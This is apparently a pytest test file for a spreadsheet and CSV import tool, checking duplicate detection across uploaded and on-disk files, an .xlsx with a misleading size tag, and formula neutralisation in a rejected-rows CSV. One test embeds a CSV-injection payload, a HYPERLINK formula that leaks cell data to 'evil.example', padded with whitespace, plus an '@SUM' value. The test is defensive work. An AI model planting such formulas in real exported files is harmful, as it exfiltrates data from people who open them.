"""What an import will not do, whatever the file asks: drop the rows of a spreadsheet that
understates its size, write a formula into the rejected rows' CSV, or tell an uploaded file
from the same file on disk."""

import csv
import re
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook

from domain.commands import CreateTeam, JoinMember
from importers.records import Upload
from importers.run import run_import, source_for
from importers.tabular import Mapping

FIXTURES = Path(__file__).parents[1] / "fixtures" / "import"


@pytest.fixture
def team(app):
    app.create_team(CreateTeam.parse(name="North Team"))
    team_id = app.team_named("North Team").id
    for name, email in [("Sam Patel", "sam.patel@example.org"), ("Jo Okoro", "jo.okoro@example.org")]:
        app.join_member(JoinMember.parse(team_id=team_id, name=name, email=email, joined_on=date(2025, 1, 5)))
    return team_id


@pytest.mark.parametrize("name", ["supervision_log.csv", "../../supervision_log.csv", "/tmp/supervision_log.csv",
                                  "C:\\Users\\ann\\supervision_log.csv"])
def test_an_upload_and_the_same_file_on_disk_are_one_source(app, team, name):
    """Each entry's id comes from the file's name and the row, so an upload of a file already
    imported from disk, whatever folders its name carries, adds nothing."""
    app.join_member(JoinMember.parse(team_id=team, name="Zoë Lambert", joined_on=date(2025, 1, 5)))
    app.join_member(JoinMember.parse(team_id=team, name="José Núñez", joined_on=date(2025, 1, 5)))
    on_disk = run_import(app, team, source_for(FIXTURES / "supervision_log.csv", Mapping()), "ann")
    assert on_disk.added == 5
    data = (FIXTURES / "supervision_log.csv").read_bytes()
    uploaded = run_import(app, team, source_for(Upload(name, data), Mapping()), "ann")
    assert (uploaded.added, uploaded.already_imported) == (0, 5)


def understated_xlsx(path: Path, rows: int) -> Path:
    """An .xlsx whose <dimension> tag claims one cell, as some programs that write them do."""
    book = Workbook()
    book.active.append(["Date", "Activity", "People"])
    for day in range(1, rows + 1):
        book.active.append([datetime(2026, 3, day, 10), "check in", "Sam Patel"])
    book.save(path)
    with zipfile.ZipFile(path) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    parts["xl/worksheets/sheet1.xml"] = re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:A1"', sheet).encode()
    assert '<dimension ref="A1:A1"' in parts["xl/worksheets/sheet1.xml"].decode()
    with zipfile.ZipFile(path, "w") as rewritten:
        for name, data in parts.items():
            rewritten.writestr(name, data)
    return path


def test_an_xlsx_that_understates_its_size_imports_every_row(app, team, tmp_path):
    path = understated_xlsx(tmp_path / "log.xlsx", rows=20)
    report = run_import(app, team, source_for(path, Mapping()), "ann")
    assert (report.added, report.rejected) == (20, [])
    uploaded = run_import(app, team, source_for(Upload("log.xlsx", path.read_bytes()), Mapping()), "ann")
    assert (uploaded.added, uploaded.already_imported) == (0, 20)


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open the record")'


def test_the_rejected_rows_csv_holds_no_formula(app, team, tmp_path):
    path = tmp_path / "log.csv"
    with path.open("w", newline="") as handle:
        csv.writer(handle).writerows([["date", "activity", "people", "note"],
                                      ["2026-03-02", "check in", "Sam Patel", "fine"],
                                      ["2026-03-03", "check in", "Sam Patel", HYPERLINK + " " * 500 + "."],
                                      ["2026-03-04", "check in", "@SUM(A1:A9)", ""]])
    report = run_import(app, team, source_for(path, Mapping()), "ann", skip_invalid=True,
                        rejected_csv=path.with_suffix(".rejected.csv"))
    assert (report.added, len(report.rejected)) == (1, 2)
    with path.with_suffix(".rejected.csv").open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [(row["line"], row["column"]) for row in rows] == [("3", "note"), ("4", "people")]
    assert rows[0]["value"].startswith("'" + HYPERLINK) and rows[1]["value"] == "'@SUM(A1:A9)"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
